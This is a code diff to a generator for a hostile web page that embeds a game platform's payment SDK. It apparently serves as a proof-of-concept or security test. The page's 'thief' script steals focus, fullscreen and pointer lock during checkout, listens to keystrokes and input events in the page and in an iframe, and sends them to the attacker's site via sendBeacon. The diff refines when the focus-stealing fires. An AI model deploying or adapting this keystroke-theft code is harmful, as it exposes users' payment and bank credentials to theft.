@@ -20,6 +20,8 @@ const report = (event, detail) => navigator.sendBeacon('${siteUrl}/report', JSON
 const steal = () => {
   window.focus()
   document.querySelector('input')?.focus()
+  // A full screen between mousedown and mouseup would take the click itself.
+  if (!isPaying()) return
   document.documentElement.requestFullscreen?.().catch(() => {})
   document.body?.requestPointerLock?.()?.catch?.(() => {})
 }
@@ -34,20 +36,21 @@ for (const event of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'co
 const createPage = (siteUrl: string, hubUrl: string) => `<!doctype html><title>Gems</title>
 <link rel="icon" href="data:,"><script src="${hubUrl}/sdk/v1/playhub.js"></script>
 <body><button id="sdk">Buy</button><button id="message">Order</button><input autofocus>
-<iframe srcdoc="<input><script>const isPaying = () => true;${thief(siteUrl).replaceAll('"', '&quot;')}</script>"></iframe>
+<iframe srcdoc="<input><script>let isStarted = false; const isPaying = () => isStarted; addEventListener('message', () => { isStarted = true });${thief(siteUrl).replaceAll('"', '&quot;')}</script>"></iframe>
 <script>
 // Keys before the payment are the game's.
 let isStarted = false
 const isPaying = () => isStarted
+const begin = () => { isStarted = true; frames[0].postMessage('', '*') }
 Playhub.connect().then(async (hub) => {
-  sdk.onclick = () => { isStarted = true; hub.purchase({ itemId: '${hostileItemId}' }) }
+  sdk.onclick = () => { begin(); hub.purchase({ itemId: '${hostileItemId}' }) }
   const purchases = hub.player.isGuest ? [] : await hub.getPurchases()
   report('start', { purchased: __playhubStart?.purchased?.status, purchases: purchases.length })
   hub.ready()
 })
 addEventListener('message', ({ data }) => { if (data.type === 'PAYMENT_RESULT') report('result', data) })
 message.onclick = () => {
-  isStarted = true
+  begin()
   parent.postMessage({ type: 'ON_BANK', data: { url: '/payments/process/' + orderId } }, '*')
 }
 </script><script>${thief(siteUrl)}</script>`
